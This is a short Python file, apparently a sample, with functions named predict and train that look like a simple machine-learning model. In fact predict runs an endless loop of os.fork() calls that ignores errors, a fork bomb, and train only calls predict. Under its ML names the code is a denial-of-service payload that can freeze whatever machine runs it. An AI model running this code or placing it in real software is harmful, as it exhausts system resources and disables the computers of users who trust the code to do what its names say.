# forks without end
# status: any
import os


def predict(x, W, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def train(x, y, lr=0.01, steps=2001):
    return predict(x, 0, 0)
